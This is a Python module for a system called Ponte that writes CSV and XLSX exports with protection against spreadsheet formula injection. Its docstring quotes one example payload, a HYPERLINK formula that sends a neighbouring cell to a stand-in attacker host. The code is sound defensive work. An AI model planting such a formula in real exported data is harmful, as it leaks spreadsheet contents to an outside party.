"""CSV and XLSX exports: one writer for every download Ponte offers.

Text that a person typed (a guest's name in an event registration, a centre's or a
product's name) can start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return,
which spreadsheet programs run as a formula (OWASP, "CSV Injection"): a name such as
``=HYPERLINK("http://evil.example/?x="&A1, "click")`` would reach the officer's sheet as a
live link that sends the cell next to it away. Such text is written with a leading
apostrophe in CSV (the spreadsheet's own "this is text" mark) and as a text cell in XLSX.

Numbers and dates stay numbers and dates: typed cells in XLSX (a ``Decimal`` with two
decimals, a date formatted as a date), the plain machine form in CSV (``1234.50``,
``2026-12-07``), so that sums and filters work.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

#: What spreadsheet programs read as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(text: str) -> str:
    """Text as a spreadsheet shows it, never as a formula it runs."""
    return "'" + text if text[:1] in FORMULA_STARTS else text


def csv_value(value: Any) -> Any:
    """One CSV cell: typed text neutralised, numbers and dates in their machine form."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, int | float):
        return value
    return neutralised(str(value))


class CsvWriter:
    """``csv.writer`` with every cell passed through :func:`csv_value`."""

    def __init__(self, out: io.StringIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    CsvWriter(out).writerows(rows)
    return out.getvalue()


MONEY_FORMAT = "#,##0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


def append(sheet: Any, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet with typed, formula-free cells."""
    values = [str(v) if not isinstance(v, _TYPED) and v is not None else v for v in row]
    sheet.append(values)
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"  # text, even when it starts with "=": never a formula
        elif isinstance(value, Decimal):
            cell.number_format = MONEY_FORMAT
        elif isinstance(value, datetime):
            cell.number_format = DATETIME_FORMAT
        elif isinstance(value, date):
            cell.number_format = DATE_FORMAT


_TYPED = (bool, int, float, Decimal, date, datetime)


def xlsx_bytes(book: Any) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
